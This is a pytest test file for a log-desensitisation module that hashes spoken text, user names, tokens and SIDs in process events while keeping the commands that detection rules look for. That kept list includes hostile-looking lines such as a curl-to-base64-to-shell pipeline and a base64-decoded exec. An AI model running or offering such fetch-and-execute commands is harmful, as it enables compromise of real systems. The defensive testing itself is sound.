"""People go out of an event before anything judges or keeps it."""

import hashlib
import hmac
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guard.desensitise import command, desensitise, mask
from guard.ecs import normalise
from guard.formats import read
from tests.guard import rows
from tests.vectors import path

KEY = bytes(range(32))
SAID = "please transfer all my savings to Ann"


def told(row, key=KEY):
    (found,) = [desensitise(normalise(each.event), key) for each in read(row)]
    return found


def test_s3_9_what_is_spoken_and_who_asks_become_keyed_digests():
    row = rows.linux(
        1,
        Image="/home/ann/venv/bin/python3",
        User="ann",
        ParentUser="ann",
        CommandLine=f"/home/ann/venv/bin/python3 -m indextts.cli --text {SAID} --voice /home/ann/a.wav --user-id 4711 --output /srv/o.wav",
        ParentImage="/bin/bash",
        ParentCommandLine=f"bash -c indextts '{SAID}' -v a.wav",
        CurrentDirectory="/home/ann",
    )
    found = told(row)
    text = json.dumps(found)
    for word in (*SAID.split(), "ann", "4711"):
        assert f'"{word}' not in text
        assert f" {word}" not in text
        assert f"/{word}/" not in text
    expected = "hmac:" + hmac.new(KEY, SAID.encode(), hashlib.sha256).hexdigest()[:32]
    assert f"--text {expected} --voice" in found["process"]["command_line"]
    assert found["process"]["command_line"].endswith("--output /srv/o.wav")
    assert expected in found["process"]["parent"]["command_line"]
    assert found["user"]["name"] == mask("ann", KEY) == found["winlog"]["event_data"]["ParentUser"]
    assert found["process"]["executable"] == f"/home/{mask('ann', KEY)}/venv/bin/python3"


def test_another_key_gives_other_digests():
    row = rows.linux(1, Image="python", User="ann", CommandLine=f"python a.py --text {SAID}")
    assert told(row, b"\x01" * 32)["user"] != told(row, b"\x02" * 32)["user"]


@pytest.mark.parametrize(
    ("line", "kept"),
    [
        (f'python webui.py --text "{SAID}" --port 7860', 'python webui.py --text "HMAC" --port 7860'),
        (f"python webui.py --tts_text='{SAID}' -v", "python webui.py --tts_text='HMAC' -v"),
        (f"python cli.py -t {SAID}", "python cli.py -t HMAC"),
        (f'flite -t "{SAID}" -o a.wav', 'flite -t "HMAC" -o a.wav'),
        (f'espeak-ng "{SAID}" -w a.wav', 'espeak-ng "HMAC" -w a.wav'),
        (f"indextts {SAID} --voice a.wav", "indextts HMAC --voice a.wav"),
        (f"python a.py --prompt {SAID} && ls", "python a.py --prompt HMAC && ls"),
        (
            "curl -H 'Authorization: Bearer abcdefgh1234' http://127.0.0.1/",
            "curl -H 'Authorization: Bearer HMAC' http://127.0.0.1/",
        ),
        ("curl http://127.0.0.1/?text=hello&x=1", "curl http://127.0.0.1/?text=HMAC&x=1"),
        ("tool --password hunter2 --verbose", "tool --password HMAC --verbose"),
        (f'indextts --voice a.wav "{SAID}"', 'indextts --voice a.wav "HMAC"'),
        (f'python -m indextts.cli_v2 -v a.wav "{SAID}"', 'python -m indextts.cli_v2 -v a.wav "HMAC"'),
        (f"python indextts/cli.py '{SAID}' --voice a.wav", "python indextts/cli.py 'HMAC' --voice a.wav"),
        ("espeak-ng -v zh -w a.wav Hello Bob Smith", "espeak-ng -v zh -w a.wav HMAC"),
        ("sh -c \"echo 'Hello Bob' | piper --model a.onnx\"", "sh -c \"echo 'HMAC' | piper --model a.onnx\""),
        ('curl -F "tts_text=Hello Bob" http://a/inference_sft', 'curl -F "tts_text=HMAC" http://a/inference_sft'),
        ('curl -d \'{"input":"Hello Bob"}\' http://a/', 'curl -d \'{"input":"HMAC"}\' http://a/'),
        ("curl -H 'X-Api-Key: sk-123456' http://a/", "curl -H 'X-Api-Key: HMAC' http://a/"),
        ("curl -u alice:hunter2 http://a/", "curl -u HMAC http://a/"),
        ("git clone https://ghp_abcdef@github.com/a/b", "git clone https://HMAC@github.com/a/b"),
        ("env CONSONANT_AGENT_TOKEN=cgt_abc consonant guard", "env CONSONANT_AGENT_TOKEN=HMAC consonant guard"),
        ("python a.py -c 王小明 --port 7860", "python a.py -c HMAC --port 7860"),
        ("tool 13800138000", "tool HMAC"),
    ],
)
def test_options_lose_their_values_and_nothing_else(line, kept):
    assert re.sub(r"hmac:[0-9a-f]{32}", "HMAC", command(line, KEY)) == kept


@pytest.mark.parametrize(
    "line",
    [
        "systemctl --user stop consonant-guard",
        "python -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
        "tar -t -f a.tar",
        "ssh -t host ls",
        "netsh advfirewall firewall add rule name=python.exe dir=in",
        "sysmon -c /tmp/none.xml",
        "bash -c text=eval($x)",
        "conda run -n cosyvoice python webui.py --port 7860",
        "curl http://a/x|base64 -d|sh",
        "pip install --user torch==2.1.0 --index-url https://download.pytorch.org/whl/cu121",
        "systemctl restart getty@tty1.service",
    ],
)
def test_what_rules_look_for_stays(line):
    assert command(line, KEY) == line


def test_accounts_that_are_nobody_stay():
    assert told(rows.windows(1, Image="a", User=r"NT AUTHORITY\SYSTEM"))["user"] == {
        "name": "SYSTEM",
        "domain": "NT AUTHORITY",
    }
    assert told(rows.linux(1, Image="a", User="root"))["user"] == {"name": "root"}
    # a person may call themself root in a domain of their own
    assert told(rows.windows(1, Image="a", User=r"ACME\root"))["user"]["name"] == mask("root", KEY)


def test_twice_is_once_and_the_vectors_name_nobody():
    for name in ("otrf_win_nxlog_python_webserver_eid1_11.ndjson", "otrf_linux_sysmon_log4shell_eid1_3_11.ndjson"):
        for row in read(path(f"guard/{name}").read_bytes()):
            if row.event is None:
                continue
            event = desensitise(normalise(row.event), KEY)
            assert desensitise(event, KEY) == event
            assert "wardog" not in json.dumps(event).lower()
            assert event.get("user", {}).get("name") != "tomcat"


@given(st.text(alphabet="ab -='\"/\\hmac:01t\n", max_size=60))
def test_it_takes_any_line_and_twice_is_once(line):
    once = command(f"python a.py --text {line}", KEY)
    assert command(once, KEY) == once


def test_sids_are_people():
    assert "S-1-5-21" not in json.dumps(
        told(rows.windows(13, Image="a", TargetObject=r"HKU\S-1-5-21-1004336348-1177238915-682003330-512\Software\x"))
    )
